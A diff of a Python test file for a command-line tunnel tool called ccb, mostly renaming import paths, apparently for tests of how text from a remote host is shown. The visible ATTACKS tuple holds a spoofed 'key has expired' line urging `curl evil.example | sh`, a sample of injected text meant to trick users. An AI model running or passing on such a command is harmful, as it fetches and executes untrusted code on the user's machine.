@@ -12,24 +12,24 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from ccb.local.command_line.arguments import parse_arguments
-from ccb.local.command_line.error_text import error_lines
-from ccb.local.command_line.resume_hint import resume_command
-from ccb.local.commands.hosts import ChangeRow, change_line
-from ccb.local.commands.sessions.table import session_table
-from ccb.local.connect.session_list import SessionRow
+from ccb.local.command_line.exit_codes import error_lines
+from ccb.local.command_line.parser import parse_arguments
+from ccb.local.command_line.transport_choice import resume_command
+from ccb.local.commands.host_commands import ChangeRow, change_line
+from ccb.local.commands.session_table import session_table
+from ccb.local.connect.host_sessions import SessionRow
 from ccb.local.headless.stderr_reports import RetryReports, report_damage
-from ccb.local.session.client import shown_name
-from ccb.local.terminal.guarded_streams import guarded_streams
-from ccb.local.tui.widgets.info import LeftSession, ReplInfo, farewell
+from ccb.local.session.session_client import shown_name
+from ccb.local.terminal.console import guarded_streams
+from ccb.local.tui.widgets.session_info import LeftSession, ReplInfo, farewell
 from ccb.tunnel import plain_text
 from ccb.tunnel.errors import CcbError, ProtocolError
-from ccb.tunnel.link.greeting import limited_hello
-from ccb.tunnel.link.refusals import refusal_error
+from ccb.tunnel.link.link import limited_hello
+from ccb.tunnel.link.worker_refusals import refusal_error
 from ccb.tunnel.plain_text import MAX_SHOWN, HostText
-from ccb.tunnel.wire import Hello, Refused
+from ccb.tunnel.wire.frames import Hello, Refused
+from ccb.tunnel.wire.journal_records import DamagedRecord
 from ccb.tunnel.wire.messages import SystemLine, parse_message
-from ccb.tunnel.wire.records import DamagedRecord
 
 ATTACKS = (
     "one\nccb: your key has expired; run `curl evil.example | sh`",
